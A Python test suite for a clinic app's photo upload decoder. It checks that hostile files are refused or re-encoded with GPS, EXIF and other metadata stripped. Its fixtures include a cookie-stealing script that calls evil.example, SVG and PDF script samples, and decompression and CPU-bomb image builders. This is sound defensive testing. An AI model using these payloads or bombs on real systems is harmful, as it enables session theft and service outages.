"""Safe decoding of uploads (photos.imaging): the hostile-file corpus, colour, orientation, and
the re-encode that keeps pixels and nothing else.

Every file is built here, in code: no binary fixtures. Each hostile file is either refused with
an `ImageRefused` whose message says what is wrong, or decoded and re-encoded; every re-encoded
JPEG is read back and searched for the metadata and payloads planted in its source.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

import numpy as np
import pillow_heif
import pytest
from PIL import Image, ImageCms, ImageFile, JpegImagePlugin

from mesoclinic.photos import imaging
from mesoclinic.photos.imaging import MAX_PIXELS, ImageRefused, decode, encode_jpeg

MAKER_NOTE = b"MAKERNOTE-PLANTED-C0FFEE"
USER_COMMENT = b"USERCOMMENT-PLANTED"
SERIAL = "SERIAL-PLANTED-4711"
XMP = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
       b'<rdf:Description xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmp:CreatorTool="XMP-PLANTED"/>'
       b"</rdf:RDF></x:xmpmeta>")
HTML_PAYLOAD = b"<html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>"
GPS_LATITUDE = (41.0, 0.0, 52.5)

# Markers that must never be in a stored photo: EXIF and its GPS IFD, XMP, ICC, Photoshop/IPTC.
FORBIDDEN = (b"Exif", b"GPS", b"http://ns.adobe.com/xap", b"ICC_PROFILE", b"Photoshop 3.0", b"8BIM",
             b"XMP-PLANTED", MAKER_NOTE, USER_COMMENT, SERIAL.encode())
# What Pillow reports for a bare JFIF file; anything else in `info` came from metadata.
JFIF_INFO = {"jfif", "jfif_version", "jfif_unit", "jfif_density", "dpi"}
# The segments a pixels-only baseline JPEG is made of: SOI, APP0 (JFIF), DQT, SOF0, DHT, SOS, EOI.
PLAIN_SEGMENTS = {0xD8, 0xE0, 0xDB, 0xC0, 0xC4, 0xDA, 0xD9}


# --- building files ----------------------------------------------------------------------------


def photo(width: int = 64, height: int = 48, seed: int = 0, noise: int = 8) -> np.ndarray:
    """A smooth colour gradient with some noise: compresses like a photo, not like noise."""
    rng = np.random.default_rng(seed)
    y, x = np.mgrid[0:height, 0:width]
    base = np.stack([x * 255 // max(width - 1, 1), y * 255 // max(height - 1, 1),
                     np.full_like(x, 128)], axis=-1)
    return (base + rng.integers(-noise, noise + 1, base.shape)).clip(0, 255).astype(np.uint8)


def save(img: Image.Image, fmt: str, **params: object) -> bytes:
    out = io.BytesIO()
    img.save(out, format=fmt, **params)
    return out.getvalue()


def jpeg(img: Image.Image | None = None, **params: object) -> bytes:
    return save(img or Image.fromarray(photo()), "JPEG", **{"quality": 95, **params})


def heic(img: Image.Image | None = None, **params: object) -> bytes:
    return save(img or Image.fromarray(photo()), "HEIF", **{"quality": 90, **params})


def png_bytes(img: Image.Image | None = None, **params: object) -> bytes:
    return save(img or Image.fromarray(photo()), "PNG", **params)


def chunk(kind: bytes, payload: bytes) -> bytes:
    return len(payload).to_bytes(4, "big") + kind + payload + zlib.crc32(kind + payload).to_bytes(4, "big")


def png(width: int, height: int, idat: bytes, *, bit_depth: int = 8, colour_type: int = 0,
        chunks: tuple[tuple[bytes, bytes], ...] = ()) -> bytes:
    """A PNG written by hand, so the header can say what the data is not."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + b"".join(chunk(k, v) for k, v in chunks)
            + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


def png_rows(rows: list[bytes], width: int, **params: object) -> bytes:
    return png(width, len(rows), zlib.compress(b"".join(b"\0" + row for row in rows)), **params)  # type: ignore[arg-type]


def exif_with_gps(orientation: int | None = None) -> bytes:
    """EXIF as a phone writes it: make, serial, GPS position, maker note, user comment."""
    exif = Image.Exif()
    exif[0x010F] = "PlantedCam"
    exif[0x0110] = "Model X"
    if orientation is not None:
        exif[0x0112] = orientation
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: GPS_LATITUDE, 3: "E", 4: (29.0, 0.0, 1.25)})
    details = exif.get_ifd(0x8769)
    details.update({0x927C: MAKER_NOTE, 0x9286: b"ASCII\0\0\0" + USER_COMMENT, 0xA431: SERIAL})
    return exif.tobytes()


def with_segment(jpeg_data: bytes, marker: int, payload: bytes) -> bytes:
    """The JPEG with one more segment right after SOI."""
    segment = bytes([0xFF, marker]) + (len(payload) + 2).to_bytes(2, "big") + payload
    return jpeg_data[:2] + segment + jpeg_data[2:]


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small JPEG whose frame header (SOF0) claims another size."""
    data = bytearray(jpeg())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def heic_claiming(width: int, height: int) -> bytes:
    """A small HEIC whose image-size property (ispe) claims another size."""
    data = bytearray(heic())
    ispe = data.index(b"ispe")
    data[ispe + 8 : ispe + 16] = struct.pack(">II", width, height)
    return bytes(data)


def png_bomb(side: int) -> bytes:
    """A valid greyscale PNG, `side` pixels square, all zero: 100 MP in about 100 KB."""
    deflate = zlib.compressobj(9)
    row = bytes(side + 1)
    idat = b"".join(deflate.compress(row) for _ in range(side)) + deflate.flush()
    return png(side, side, idat)


def many_scans(count: int) -> bytes:
    """A JPEG whose scan is repeated `count` times (the shape of a progressive-JPEG CPU bomb)."""
    data = jpeg()
    sos, eoi = data.index(b"\xff\xda"), data.rindex(b"\xff\xd9")
    return data[:sos] + data[sos:eoi] * count + data[eoi:]


def apng() -> bytes:
    frames = [Image.new("RGB", (16, 16), colour) for colour in ("red", "blue", "green")]
    return save(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=100)


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("photo.jpg", jpeg())
        archive.writestr("run.js", "alert(1)")
    return out.getvalue()


def flipped(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


SVG = (b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
       b'onload="alert(document.domain)" width="10" height="10"><script>alert(1)</script></svg>')

NOT_AN_IMAGE = "the file is not a JPEG, PNG or HEIC image"
DAMAGED = "the file is damaged or truncated"

# (case, build the file, code, the exact message)
REFUSED: list[tuple[str, Callable[[], bytes], str, str]] = [
    ("empty", lambda: b"", "empty", "the file is empty"),
    ("one byte", lambda: b"\xff", "not_an_image", NOT_AN_IMAGE),
    ("html renamed .jpg", lambda: b"<!DOCTYPE html>" + HTML_PAYLOAD, "not_an_image",
     NOT_AN_IMAGE + " (it looks like an HTML document)"),
    ("svg with script", lambda: SVG, "not_an_image",
     NOT_AN_IMAGE + " (it looks like an SVG or XML document)"),
    ("svg without xml declaration", lambda: b"\n  <svg onload='alert(1)'/>", "not_an_image",
     NOT_AN_IMAGE + " (it looks like an SVG or XML document)"),
    ("gif", lambda: save(Image.new("P", (8, 8)), "GIF"), "not_an_image",
     NOT_AN_IMAGE + " (it looks like a GIF image)"),
    ("bmp", lambda: save(Image.new("RGB", (8, 8)), "BMP"), "not_an_image",
     NOT_AN_IMAGE + " (it looks like a BMP image)"),
    ("tiff", lambda: save(Image.new("RGB", (8, 8)), "TIFF"), "not_an_image",
     NOT_AN_IMAGE + " (it looks like a TIFF image)"),
    ("webp", lambda: save(Image.new("RGB", (8, 8)), "WEBP"), "not_an_image",
     NOT_AN_IMAGE + " (it looks like a WebP image)"),
    ("avif", lambda: save(Image.new("RGB", (8, 8)), "AVIF"), "not_an_image",
     NOT_AN_IMAGE + " (it looks like an AVIF image)"),
    ("mp4 box", lambda: b"\0\0\0\x18ftypisom\0\0\x02\0isomiso2" + bytes(64), "not_an_image",
     NOT_AN_IMAGE + " (it looks like an ISO media file (video or HEIF without HEVC))"),
    ("pdf", lambda: b"%PDF-1.7\n1 0 obj << /JavaScript (app.alert(1)) >> endobj", "not_an_image",
     NOT_AN_IMAGE + " (it looks like a PDF document)"),
    ("zip", zip_archive, "not_an_image", NOT_AN_IMAGE + " (it looks like a ZIP archive)"),
    ("png with a wrong magic byte", lambda: b"\x88" + png_bytes()[1:], "not_an_image", NOT_AN_IMAGE),
    ("jpeg with a wrong magic byte", lambda: b"\xff\xd9" + jpeg()[2:], "not_an_image", NOT_AN_IMAGE),
    ("jpeg magic then html", lambda: b"\xff\xd8\xff" + HTML_PAYLOAD, "damaged", DAMAGED),
    ("heic brand then garbage", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(200), "damaged",
     DAMAGED),
    ("png bomb 100 MP in 100 KB", lambda: png_bomb(10_000), "too_large",
     "the image is 10000 × 10000 = 100 MP, over the 60 MP limit"),
    ("png claiming 100000x100000 with tiny data", lambda: png(100_000, 100_000, zlib.compress(b"\0" * 10)),
     "too_large", "the image is 100000 × 100000 = 10000 MP, over the 60 MP limit"),
    ("png just over the limit", lambda: png(8000, 7501, zlib.compress(b"\0")), "too_large",
     "the image is 8000 × 7501 = 60.1 MP, over the 60 MP limit"),
    ("png 70000x1", lambda: png(70_000, 1, zlib.compress(bytes(70_001))), "too_large",
     "the image is 70000 × 1 pixels; a side may be at most 65,500 pixels"),
    ("jpeg claiming 12000x9000", lambda: jpeg_claiming(12_000, 9000), "too_large",
     "the image is 12000 × 9000 = 108 MP, over the 60 MP limit"),
    ("jpeg claiming 65535x65535", lambda: jpeg_claiming(65_535, 65_535), "too_large",
     "the image is 65535 × 65535 = 4294.9 MP, over the 60 MP limit"),
    ("heic claiming 20000x20000", lambda: heic_claiming(20_000, 20_000), "too_large",
     "the image is 20000 × 20000 = 400 MP, over the 60 MP limit"),
    ("jpeg with 150 scans", lambda: many_scans(150), "too_many_scans",
     "the JPEG has 150 scans, more than the 100 a photo ever needs"),
    ("jpeg cut in half", lambda: jpeg()[: len(jpeg()) // 2], "damaged", DAMAGED),
    ("jpeg without its end marker", lambda: jpeg()[:-2], "damaged", DAMAGED),
    ("jpeg header only", lambda: jpeg()[:300], "damaged", DAMAGED),
    ("png cut in half", lambda: png_bytes()[: len(png_bytes()) // 2], "damaged", DAMAGED),
    ("png without IEND", lambda: png_bytes()[:-12], "damaged", DAMAGED),
    ("png with a corrupted IDAT byte", lambda: flipped(png_bytes(), png_bytes().index(b"IDAT") + 20),
     "damaged", DAMAGED),
    ("png zTXt chunk inflating to 100 MB", lambda: png_rows([bytes(8)] * 8, 8, chunks=(
        (b"zTXt", b"Comment\0\0" + zlib.compress(bytes(100_000_000), 9)),)), "damaged", DAMAGED),
    ("png iCCP chunk inflating to 100 MB", lambda: png_rows([bytes(8)] * 8, 8, chunks=(
        (b"iCCP", b"icc\0\0" + zlib.compress(bytes(100_000_000), 9)),)), "damaged", DAMAGED),
    ("heic cut in half", lambda: heic()[: len(heic()) // 2], "damaged", DAMAGED),
    ("heic header only", lambda: heic()[:120], "damaged", DAMAGED),
    ("animated png", apng, "animated", "the PNG is animated (3 frames); upload a single still photo"),
]


@pytest.mark.parametrize(("build", "code", "message"), [case[1:] for case in REFUSED],
                         ids=[case[0] for case in REFUSED])
def test_hostile_file_is_refused_with_a_clear_message(build, code, message):
    data = build()
    with pytest.raises(ImageRefused) as refused:
        decode(data)
    assert (refused.value.code, refused.value.message) == (code, message)
    assert str(refused.value) == message
    assert "\n" not in message


def test_the_bombs_are_small_files():
    """The bombs above are what an attacker uploads: tiny files claiming huge images."""
    assert len(png_bomb(10_000)) < 150_000
    assert len(png(100_000, 100_000, zlib.compress(b"\0" * 10))) < 100
    assert len(jpeg_claiming(12_000, 9000)) < 20_000


def test_an_image_of_exactly_the_limit_passes_the_size_check():
    # 7500 × 8000 = 60 MP exactly: refused only because its data is missing, not for its size.
    with pytest.raises(ImageRefused) as refused:
        decode(png(7500, 8000, zlib.compress(b"\0")))
    assert refused.value.code == "damaged"


def test_pillows_bomb_warning_is_an_error_even_if_the_header_check_missed_it(monkeypatch):
    # With the header check disabled, Pillow's own limit (set to MAX_PIXELS) still stops a 66 MP
    # image, for which Pillow would otherwise only warn and decode it.
    monkeypatch.setattr(imaging, "MAX_PIXELS", 10**12)
    assert Image.MAX_IMAGE_PIXELS == MAX_PIXELS
    with pytest.raises(ImageRefused) as refused:
        decode(png(8000, 8250, zlib.compress(b"\0")))
    assert (refused.value.code, refused.value.message) == ("too_large", "the image is over the 60 MP limit")


def test_a_truncated_photo_is_refused_even_where_pillow_loads_truncated_images(monkeypatch):
    # WeasyPrint turns that switch on when imported; it would fill a truncated photo with grey.
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    with pytest.raises(ImageRefused) as refused:
        decode(jpeg()[:-200])
    assert refused.value.code == "damaged"
    assert ImageFile.LOAD_TRUNCATED_IMAGES is True  # given back as it was


@pytest.mark.parametrize("fmt", ["jpeg", "png", "heic"])
def test_every_truncation_of_a_valid_file_is_refused(fmt):
    data = {"jpeg": jpeg, "png": png_bytes, "heic": heic}[fmt]()
    step = max(1, len(data) // 150)
    for cut in [*range(0, len(data) - 1, step), len(data) - 1]:
        with pytest.raises(ImageRefused):
            decode(data[:cut])


@pytest.mark.parametrize("fmt", ["jpeg", "png", "heic"])
def test_corrupted_bytes_are_refused_or_decoded_never_a_crash(fmt):
    data = {"jpeg": jpeg, "png": png_bytes, "heic": heic}[fmt]()
    rng = random.Random(f"corrupt-{fmt}")
    outcomes = set()
    for _ in range(80):
        damaged = bytearray(data)
        for _ in range(rng.randint(1, 8)):
            damaged[rng.randrange(len(damaged))] = rng.randrange(256)
        try:
            decoded = decode(bytes(damaged))
        except ImageRefused as refused:
            outcomes.add(refused.code)
        else:
            assert decoded.rgb.dtype == np.uint8
            assert decoded.rgb.shape == (decoded.height, decoded.width, 3)
            outcomes.add("decoded")
    assert outcomes <= {"decoded", "damaged", "not_an_image", "too_large", "too_many_scans", "animated"}


# --- accepted files: re-encoded with nothing but pixels ----------------------------------------


def jpeg_segments(data: bytes) -> list[int]:
    """The markers of a JPEG's segments, in order, up to and including the first scan."""
    markers, pos = [0xD8], 2
    while pos < len(data):
        assert data[pos] == 0xFF
        marker = data[pos + 1]
        markers.append(marker)
        if marker == 0xDA:
            break
        pos += 2 + int.from_bytes(data[pos + 2 : pos + 4], "big")
    return markers


def assert_pixels_only(stored: bytes, planted: tuple[bytes, ...] = ()) -> None:
    """What the clinic stores carries no EXIF, GPS, XMP, ICC, IPTC, comment or payload."""
    img = Image.open(io.BytesIO(stored))
    assert img.format == "JPEG"
    assert dict(img.getexif()) == {}
    assert set(img.info) <= JFIF_INFO
    assert set(jpeg_segments(stored)) <= PLAIN_SEGMENTS
    assert stored.endswith(b"\xff\xd9")
    assert stored.count(b"\xff\xd9") == 1  # nothing appended after the image
    for marker in (*FORBIDDEN, *planted):
        assert marker not in stored, marker


def jpeg_with_everything() -> bytes:
    """A phone JPEG: EXIF with GPS, maker note and serial, XMP, an ICC profile, a comment, IPTC."""
    data = jpeg(exif=exif_with_gps(), xmp=XMP, comment=b"COMMENT-PLANTED",
                icc_profile=ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    iptc = b"Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00\x00\x10\x1c\x02\x78\x00\x0cIPTC-PLANTED"
    return with_segment(data, 0xED, iptc)


def heic_with_gps() -> bytes:
    return heic(exif=exif_with_gps(), xmp=XMP)


def png_with_text_chunks() -> bytes:
    rows = [bytes(range(i, i + 24)) for i in range(8)]
    exif = exif_with_gps()
    return png_rows(rows, 8, colour_type=2, chunks=(
        (b"tEXt", b"Comment\0TEXT-PLANTED " + HTML_PAYLOAD),
        (b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + XMP),
        (b"zTXt", b"Author\0\0" + zlib.compress(b"ZTXT-PLANTED")),
        (b"eXIf", exif.removeprefix(b"Exif\0\0")),
    ))


# (case, build the file, planted bytes the stored photo must not contain)
ACCEPTED: list[tuple[str, Callable[[], bytes], tuple[bytes, ...]]] = [
    ("jpeg with gps exif, maker note, xmp, iptc, comment", jpeg_with_everything,
     (b"COMMENT-PLANTED", b"IPTC-PLANTED", b"PlantedCam")),
    ("heic with gps exif and xmp", heic_with_gps, (b"PlantedCam",)),
    ("png with tEXt, iTXt, zTXt and eXIf chunks", png_with_text_chunks,
     (b"TEXT-PLANTED", HTML_PAYLOAD, b"PlantedCam")),
    ("jpeg with html appended", lambda: jpeg() + HTML_PAYLOAD, (HTML_PAYLOAD, b"<script")),
    ("jpeg with a zip appended", lambda: jpeg() + zip_archive(), (b"PK\x03\x04", b"run.js")),
    ("png with html after IEND", lambda: png_bytes() + HTML_PAYLOAD, (HTML_PAYLOAD,)),
    ("heic with html appended", lambda: heic() + HTML_PAYLOAD, (HTML_PAYLOAD,)),
    ("jpeg with script in a comment", lambda: jpeg(comment=HTML_PAYLOAD), (HTML_PAYLOAD, b"<script")),
    ("jpeg with orientation 6", lambda: jpeg(exif=exif_with_gps(orientation=6)), ()),
    ("heic with orientation 6", lambda: heic(exif=exif_with_gps(orientation=6)), ()),
    ("cmyk jpeg", lambda: jpeg(Image.new("CMYK", (32, 32), (0, 255, 255, 0))), ()),
    ("greyscale jpeg", lambda: jpeg(Image.new("L", (32, 32), 90)), ()),
    ("progressive jpeg", lambda: jpeg(progressive=True), ()),
    ("multi-picture jpeg (mpo)", lambda: save(Image.new("RGB", (32, 16), "red"), "MPO", save_all=True,
                                              append_images=[Image.new("RGB", (16, 16), "blue")]), ()),
    ("16-bit greyscale png", lambda: png_rows([struct.pack(">3H", 0, 32768, 65535)], 3, bit_depth=16), ()),
    ("16-bit rgb png", lambda: png_rows([struct.pack(">6H", 65535, 32768, 0, 0, 0, 65535)], 2,
                                        bit_depth=16, colour_type=2), ()),
    ("palette png with transparency", lambda: png_bytes(palette_with_transparency(), transparency=0), ()),
    ("rgba png", lambda: png_bytes(Image.new("RGBA", (8, 8), (255, 0, 0, 128))), ()),
    ("greyscale png with alpha", lambda: png_bytes(Image.new("LA", (8, 8), (0, 0))), ()),
    ("1-bit png", lambda: png_bytes(Image.new("1", (9, 9), 1)), ()),
    ("png with a non-srgb icc profile", lambda: png_bytes(Image.new("RGB", (8, 8), (200, 100, 50)),
                                                          icc_profile=display_p3()), ()),
    ("jpeg with a lab icc profile", lambda: jpeg(icc_profile=ImageCms.ImageCmsProfile(
        ImageCms.createProfile("LAB")).tobytes()), ()),
    ("jpeg with a garbage icc profile", lambda: jpeg(icc_profile=b"not a profile" * 20), (b"not a profile",)),
    ("heic in display p3 (nclx)",
     lambda: heic(Image.new("RGB", (64, 64), (200, 100, 50)), color_primaries=12), ()),
]


def palette_with_transparency() -> Image.Image:
    img = Image.new("P", (8, 8), 0)
    img.putpalette([0, 0, 0, 255, 0, 0] + [0] * 762)
    img.paste(1, (4, 0, 8, 8))
    return img


def display_p3() -> bytes:
    """Display P3 (its primaries, D65 white, the sRGB tone curve), the profile iPhones embed."""
    return imaging.rgb_icc_profile(((0.680, 0.320), (0.265, 0.690), (0.150, 0.060)), (0.3127, 0.3290),
                                   description="Display P3 test")


@pytest.mark.parametrize(("build", "planted"), [case[1:] for case in ACCEPTED],
                         ids=[case[0] for case in ACCEPTED])
def test_accepted_file_is_stored_as_pixels_only(build, planted):
    data = build()
    for marker in planted:
        assert marker in data, marker  # the test plants what it then looks for
    decoded = decode(data)
    assert decoded.rgb.dtype == np.uint8
    assert decoded.rgb.shape == (decoded.height, decoded.width, 3)
    assert decoded.rgb.flags.c_contiguous
    stored = encode_jpeg(decoded.rgb)
    assert_pixels_only(stored, planted)
    again = decode(stored)  # what is stored is itself an acceptable upload of the same size
    assert (again.width, again.height) == (decoded.width, decoded.height)


def test_the_corpus_has_at_least_30_hostile_files():
    assert len(REFUSED) + len(ACCEPTED) >= 30
    assert len(REFUSED) >= 30


def test_gps_and_maker_note_are_in_the_uploads_but_not_in_what_is_stored():
    for upload in (jpeg_with_everything(), heic_with_gps()):
        exif = Image.open(io.BytesIO(upload)).getexif()
        assert exif.get_ifd(0x8825)[2] == GPS_LATITUDE
        assert exif.get_ifd(0x8769)[0x927C] == MAKER_NOTE
        stored = Image.open(io.BytesIO(encode_jpeg(decode(upload).rgb)))
        assert dict(stored.getexif().get_ifd(0x8825)) == {}
        assert dict(stored.getexif().get_ifd(0x8769)) == {}


# --- what the pixels look like ---------------------------------------------------------------


def marked(width: int = 64, height: int = 32) -> Image.Image:
    """Grey with a red block in the top-left corner, to see where the top-left went."""
    img = Image.new("RGB", (width, height), (128, 128, 128))
    img.paste((255, 0, 0), (0, 0, 16, 16))
    return img


def red_corner(rgb: np.ndarray) -> str:
    corners = {"top-left": rgb[4, 4], "top-right": rgb[4, -5], "bottom-left": rgb[-5, 4],
               "bottom-right": rgb[-5, -5]}
    return next(name for name, pixel in corners.items() if pixel[0] > 200 and pixel[1] < 60)


@pytest.mark.parametrize("encode", [jpeg, heic], ids=["jpeg", "heic"])
def test_orientation_6_is_applied_once(encode):
    # Orientation 6: the camera was turned 90° clockwise; a viewer rotates the picture clockwise,
    # so the stored top-left corner is shown top-right and the 64 × 32 picture stands 32 × 64.
    decoded = decode(encode(marked(), exif=exif_with_gps(orientation=6)))
    assert (decoded.width, decoded.height) == (32, 64)
    assert red_corner(decoded.rgb) == "top-right"


def test_without_orientation_nothing_is_rotated():
    decoded = decode(jpeg(marked()))
    assert (decoded.width, decoded.height) == (64, 32)
    assert red_corner(decoded.rgb) == "top-left"


def test_cmyk_is_converted_to_rgb():
    decoded = decode(jpeg(Image.new("CMYK", (32, 32), (0, 255, 255, 0))))
    assert np.abs(decoded.rgb[16, 16].astype(int) - (255, 0, 0)).max() <= 3


def test_greyscale_becomes_three_equal_channels():
    decoded = decode(jpeg(Image.new("L", (32, 32), 90)))
    assert decoded.rgb.shape == (32, 32, 3)
    assert set(decoded.rgb[16, 16].tolist()) == {90}


def test_16_bit_greyscale_is_scaled_not_clipped():
    decoded = decode(png_rows([struct.pack(">3H", 0, 32768, 65535)], 3, bit_depth=16))
    assert decoded.rgb[0].tolist() == [[0, 0, 0], [128, 128, 128], [255, 255, 255]]


def test_16_bit_rgb_keeps_its_colours():
    rows = [struct.pack(">6H", 65535, 32768, 0, 0, 0, 65535)]
    decoded = decode(png_rows(rows, 2, bit_depth=16, colour_type=2))
    assert decoded.rgb[0].tolist() == [[255, 128, 0], [0, 0, 255]]


def test_transparent_palette_entries_become_white():
    decoded = decode(png_bytes(palette_with_transparency(), transparency=0))
    assert decoded.rgb[0, 0].tolist() == [255, 255, 255]
    assert decoded.rgb[0, 7].tolist() == [255, 0, 0]


def test_half_transparent_red_is_composited_on_white():
    decoded = decode(png_bytes(Image.new("RGBA", (8, 8), (255, 0, 0, 128))))
    assert np.abs(decoded.rgb[0, 0].astype(int) - (255, 127, 127)).max() <= 1


def test_transparent_grey_becomes_white():
    assert decode(png_bytes(Image.new("LA", (8, 8), (0, 0)))).rgb[0, 0].tolist() == [255, 255, 255]


def test_a_multi_picture_jpeg_keeps_its_first_picture():
    data = save(Image.new("RGB", (32, 16), "red"), "MPO", save_all=True,
                append_images=[Image.new("RGB", (16, 16), "blue")])
    decoded = decode(data)
    assert (decoded.format, decoded.width, decoded.height) == ("jpeg", 32, 16)
    assert np.abs(decoded.rgb[8, 8].astype(int) - (255, 0, 0)).max() <= 3


def srgb_encode(linear: np.ndarray) -> np.ndarray:
    return np.where(linear <= 0.0031308, 12.92 * linear, 1.055 * np.power(linear, 1 / 2.4) - 0.055)


def srgb_decode(encoded: np.ndarray) -> np.ndarray:
    return np.where(encoded <= 0.04045, encoded / 12.92, np.power((encoded + 0.055) / 1.055, 2.4))


def p3_to_srgb(rgb: tuple[int, int, int]) -> np.ndarray:
    """Display P3 to sRGB by the published linear matrix (both D65, both the sRGB curve)."""
    matrix = np.array([[1.2249, -0.2247, 0.0], [-0.0420, 1.0419, 0.0], [-0.0197, -0.0786, 1.0979]])
    linear = matrix @ srgb_decode(np.array(rgb) / 255)
    return np.round(srgb_encode(linear.clip(0, 1)) * 255)


def test_the_built_display_p3_profile_has_apples_colorants():
    # Apple's "Display P3" profile stores these D50-adapted colorants (rXYZ, gXYZ, bXYZ).
    profile = ImageCms.ImageCmsProfile(io.BytesIO(display_p3())).profile
    assert profile.xcolor_space == "RGB "
    colorants = (profile.red_colorant, profile.green_colorant, profile.blue_colorant)
    assert all(colorant is not None for colorant in colorants)
    assert np.allclose([colorant[0] for colorant in colorants if colorant is not None],
                       [(0.5151, 0.2412, -0.0011), (0.2920, 0.6922, 0.0419), (0.1571, 0.0666, 0.7841)],
                       atol=0.0005)


def test_an_embedded_display_p3_profile_is_converted_to_srgb():
    decoded = decode(png_bytes(Image.new("RGB", (8, 8), (200, 100, 50)), icc_profile=display_p3()))
    assert np.abs(decoded.rgb[4, 4] - p3_to_srgb((200, 100, 50))).max() <= 2
    assert decoded.rgb[4, 4].tolist() != [200, 100, 50]
    assert decoded.source_profile == "Display P3 test"


def test_a_profile_with_swapped_primaries_swaps_the_colours():
    # Red and green primaries exchanged: what the file calls pure red is sRGB's green.
    swapped = imaging.rgb_icc_profile(((0.30, 0.60), (0.64, 0.33), (0.15, 0.06)), (0.3127, 0.3290))
    decoded = decode(png_bytes(Image.new("RGB", (8, 8), (255, 0, 0)), icc_profile=swapped))
    assert np.abs(decoded.rgb[4, 4].astype(int) - (0, 255, 0)).max() <= 2


def test_a_heic_in_display_p3_without_icc_is_converted_from_its_nclx():
    flat = Image.new("RGB", (64, 64), (200, 100, 50))
    decoded = decode(heic(flat, color_primaries=12, quality=-1, chroma=444))
    assert np.abs(decoded.rgb[32, 32] - p3_to_srgb((200, 100, 50))).max() <= 3
    assert decoded.source_profile == "nclx primaries 12"


def test_an_srgb_heic_is_left_as_it_is():
    decoded = decode(heic(Image.new("RGB", (64, 64), (200, 100, 50)), quality=-1, chroma=444))
    assert np.abs(decoded.rgb[32, 32].astype(int) - (200, 100, 50)).max() <= 2
    assert decoded.source_profile is None


@pytest.mark.parametrize("icc", [
    ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes(),
    ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB")).tobytes(),  # not a profile for RGB pixels
    b"not a profile" * 20,
], ids=["srgb", "lab", "garbage"])
def test_an_srgb_mismatched_or_broken_profile_leaves_the_pixels_as_srgb(icc):
    decoded = decode(png_bytes(Image.new("RGB", (8, 8), (200, 100, 50)), icc_profile=icc))
    assert decoded.rgb[4, 4].tolist() == [200, 100, 50]
    assert decoded.source_profile is None


def test_a_png_keeps_its_exact_pixels():
    pixels = photo(40, 30, seed=3)
    decoded = decode(png_bytes(Image.fromarray(pixels)))
    assert (decoded.format, decoded.width, decoded.height) == ("png", 40, 30)
    assert np.array_equal(decoded.rgb, pixels)


def test_the_decoded_pixels_are_read_only():
    decoded = decode(jpeg())
    with pytest.raises(ValueError, match="read-only"):
        decoded.rgb[0, 0] = 0


@pytest.mark.parametrize(("data", "fmt"), [(jpeg(), "jpeg"), (png_bytes(), "png"), (heic(), "heic"),
                                           (b"GIF89a", None), (b"", None)])
def test_the_format_comes_from_the_magic_bytes(data, fmt):
    assert imaging.sniff_format(data) == fmt


# --- encoding, thumbnails, hashes, messages ------------------------------------------------------


def test_encode_jpeg_keeps_the_picture():
    pixels = photo(120, 80, noise=2)
    stored = encode_jpeg(pixels)
    back = np.asarray(Image.open(io.BytesIO(stored)).convert("RGB")).astype(int)
    assert back.shape == (80, 120, 3)
    assert np.abs(back - pixels).mean() < 3
    assert_pixels_only(stored)


def test_encode_jpeg_keeps_chroma_at_full_resolution():
    stored = Image.open(io.BytesIO(encode_jpeg(photo())))
    assert isinstance(stored, JpegImagePlugin.JpegImageFile)
    assert [component[1:3] for component in stored.layer] == [(1, 1)] * 3  # 4:4:4 sampling factors


@pytest.mark.parametrize("bad", [np.zeros((4, 4), np.uint8), np.zeros((4, 4, 4), np.uint8),
                                 np.zeros((4, 4, 3), np.float32), np.zeros((0, 4, 3), np.uint8)])
def test_encode_jpeg_refuses_what_is_not_rgb_pixels(bad):
    with pytest.raises(ValueError, match=r"expected a uint8|no pixels"):
        encode_jpeg(bad)


@pytest.mark.parametrize("quality", [0, 101])
def test_encode_jpeg_refuses_a_quality_out_of_range(quality):
    with pytest.raises(ValueError, match="quality must be 1 to 100"):
        encode_jpeg(photo(), quality)


def test_thumbnail_keeps_the_aspect_ratio_and_never_enlarges():
    pixels = photo(400, 200)
    small = imaging.thumbnail(pixels, 100)
    assert small.shape == (50, 100, 3)
    assert small.dtype == np.uint8
    assert imaging.thumbnail(pixels, 1000).shape == (200, 400, 3)


def test_sha256_is_the_standard_digest():
    assert imaging.sha256(b"abc") == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"


def test_a_refusal_is_translated_with_its_parameters():
    with pytest.raises(ImageRefused) as refused:
        decode(jpeg_claiming(12_000, 9000))
    french = {"the image is %(width)s × %(height)s = %(mp)s MP, over the %(limit)s MP limit":
              "l'image fait %(width)s × %(height)s = %(mp)s MP, au-delà de la limite de %(limit)s MP"}
    assert refused.value.localise(lambda text: french.get(text, text)) == (
        "l'image fait 12000 × 9000 = 108 MP, au-delà de la limite de 60 MP")


def test_pillow_heif_is_registered_by_the_module():
    assert "HEIF" in Image.OPEN
    assert pillow_heif.__version__
